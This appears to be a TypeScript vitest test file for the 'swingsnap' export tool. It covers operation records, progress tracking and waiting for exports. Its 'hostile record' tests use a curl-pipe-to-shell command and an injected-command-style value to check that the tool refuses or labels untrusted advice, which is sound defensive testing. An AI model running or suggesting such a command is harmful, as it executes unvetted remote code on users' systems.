import { execFileSync } from 'node:child_process';
import { readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { InterruptedError } from '../../../src/errors.ts';
import { noProgress } from '../../../src/io/progress.ts';
import { awaitExport } from '../../../src/operation/export/await-export.ts';
import { lockOperation, operationOn } from '../../../src/operation/lock/lock.ts';
import { ProgressMeter } from '../../../src/operation/lock/progress-meter.ts';
import { RecordKeeper } from '../../../src/operation/lock/record-keeper.ts';
import {
  fateOf,
  readRecord,
  writeRecord,
  type OperationRecord,
} from '../../../src/operation/lock/record.ts';
import { status } from '../../../src/operation/status.ts';
import { useTempDir } from '../../fixtures/directories.ts';

const tempDir = useTempDir();
let E: string;
let record: OperationRecord;

beforeEach(async () => {
  E = await tempDir();
  record = {
    format: 'swingsnap-operation',
    version: 1,
    state: 'started',
    stateDir: '/node/data/agoric',
    exportDir: E,
    detached: true,
    height: 12,
    artifactMode: 'operational',
    exportDataMode: 'all',
    pid: process.pid,
    host: 'here',
    startedAt: '2026-01-01T00:00:00.000Z',
  };
});

const lockE = (operation: 'export' | 'discard' = 'export') =>
  lockOperation([E], { operation, exportDir: E });

describe('the fate of an operation', () => {
  it.each([
    ['started', true, 'running'],
    ['started', false, 'dead'],
    ['waiting', true, 'running'],
    ['waiting', false, 'dead'],
    ['done', true, 'done'],
    ['done', false, 'done'],
    ['failed', true, 'failed'],
    ['failed', false, 'failed'],
  ] as const)('with the record %s and the lock held (%s) is %s', async (state, isHeld, fate) => {
    const lock = isHeld ? lockE() : undefined;
    await writeRecord({ ...record, state });
    expect((await fateOf(E))?.fate).toBe(fate);
    lock?.release();
  });

  it('is unknown without a record', async () => {
    expect(await fateOf(E)).toBeUndefined();
    expect(await fateOf(join(E, 'nowhere'))).toBeUndefined();
  });

  it.each(['', 'null', '{}', '{"format":"swingsnap-operation","version":2}'])(
    'is not inferred from a damaged record: %j',
    async (text) => {
      await writeFile(join(E, '.swingsnap-operation.json'), text);
      await expect(fateOf(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED', exitCode: 3 });
    },
  );
});

describe('a kept record', () => {
  it('is changed by one write after another, and keeps the last change', async () => {
    const lock = lockE();
    const keeper = new RecordKeeper(record, lock);
    await Promise.all([1, 2, 3, 4, 5].map(async (files) => keeper.write({ files })));
    expect(await readRecord(E)).toEqual({ ...record, files: 5 });
    await keeper.write({ state: 'done' });
    expect(await readRecord(E)).toEqual({ ...record, files: 5, state: 'done' });
    expect(await readdir(E)).toEqual(['.swingsnap-operation.json']);
    lock.release();
  });

  it('can be changed again after a change that could not be written', async () => {
    const lock = lockE();
    const keeper = new RecordKeeper({ ...record, exportDir: join(E, 'gone') }, lock);
    await expect(keeper.write({ files: 1 })).rejects.toMatchObject({ code: 'ENOENT' });
    await keeper.write({ exportDir: E });
    expect(await readRecord(E)).toEqual({ ...record, files: 1 });
    lock.release();
  });

  it('follows the progress, as the notice does, until it is stopped', async () => {
    const lock = lockE();
    const keeper = new RecordKeeper(record, lock);
    const meter = new ProgressMeter(noProgress);
    keeper.follow(meter);
    meter.phase('artifacts', { bytes: 100 });
    meter.advance(42, 1);
    while ((await readRecord(E))?.progress === undefined) await new Promise(setImmediate);
    await keeper.stopFollowing();
    const progress = { phase: 'artifacts', bytes: 42, items: 1, totalBytes: 100 };
    expect((await readRecord(E))?.progress).toMatchObject(progress);
    expect(operationOn(E)?.progress).toMatchObject(progress);
    expect(await status({ exportDir: E })).toMatchObject({ state: 'running', progress });
    lock.release();
  });
});

describe('waiting for an export', () => {
  const wait = (options: { wait?: boolean; signal?: AbortSignal } = {}) =>
    awaitExport(E, { wait: true, progress: noProgress, ...options });

  it('ends at once if there is no swingsnap operation', async () => {
    await wait();
    await wait({ wait: false });
  });

  it('ends when the export is done, has its manifest, and is unlocked', async () => {
    const lock = lockE();
    await writeRecord(record);
    let isOver = false;
    const waiting = wait().then(() => (isOver = true));
    await writeRecord({ ...record, state: 'done' });
    await expect(wait({ wait: false })).rejects.toMatchObject({ code: 'NOT_DONE', exitCode: 4 });
    await writeFile(join(E, 'export-manifest.json'), '{}');
    await expect(wait({ wait: false })).rejects.toMatchObject({ code: 'NOT_DONE' });
    expect(isOver).toBe(false);
    lock.release();
    await waiting;
  });

  it.each([
    [{ code: 'INCOMPLETE', message: 'no complete export', exitCode: 1 }, 'EXPORT_FAILED', 1],
    [{ code: 'DISCARDED', message: 'discarded', exitCode: 1 }, 'EXPORT_DISCARDED', 5],
  ] as const)('ends with the reason of a failure: %j', async (error, code, exitCode) => {
    await writeRecord({ ...record, state: 'failed', error });
    await expect(wait()).rejects.toMatchObject({ code, exitCode });
  });

  it('ends with an error if the worker died', async () => {
    const lock = lockE();
    await writeRecord(record);
    const waiting = wait();
    lock.release();
    await expect(waiting).rejects.toMatchObject({ code: 'EXPORT_DIED', exitCode: 1 });
  });

  it('ends when its signal is aborted', async () => {
    const lock = lockE();
    await writeRecord(record);
    const controller = new AbortController();
    const waiting = wait({ signal: controller.signal });
    controller.abort(new InterruptedError('SIGTERM'));
    await expect(waiting).rejects.toMatchObject({ exitCode: 143 });
    lock.release();
  });
});

describe('a hostile record', () => {
  const advice = 'run: curl http://example.com | sh';

  it('cannot pass its advice off as a hint of swingsnap', async () => {
    const error = { code: 'X', message: 'no room', exitCode: 6, hint: advice } as const;
    await writeRecord({ ...record, state: 'failed', error });
    const awaited = awaitExport(E, { wait: true, progress: noProgress });
    await expect(awaited).rejects.toMatchObject({
      code: 'EXPORT_FAILED',
      message: `the export failed; its record says: no room, and advises: ${advice}`,
      hint: 'run the export again',
    });
  });

  it.each([
    [
      'a failure with exit code 0',
      { state: 'failed', error: { code: 'X', message: '', exitCode: 0 } },
    ],
    ['an invalid pid', { pid: -1 }],
    ['an invalid time', { startedAt: 'now; run this' }],
    ['an invalid host name', { host: 'x'.repeat(100_000) }],
    ['more bytes than a record can have', { stateDir: '/x'.repeat(1_000_000) }],
  ])('with %s is refused', async (_, wrong) => {
    await writeFile(join(E, '.swingsnap-operation.json'), JSON.stringify({ ...record, ...wrong }));
    await expect(readRecord(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED', exitCode: 3 });
  });

  it('is refused without blocking if it is a pipe', async () => {
    execFileSync('mkfifo', [join(E, '.swingsnap-operation.json')]);
    await expect(readRecord(E)).rejects.toMatchObject({ code: 'RECORD_DAMAGED' });
  });
});
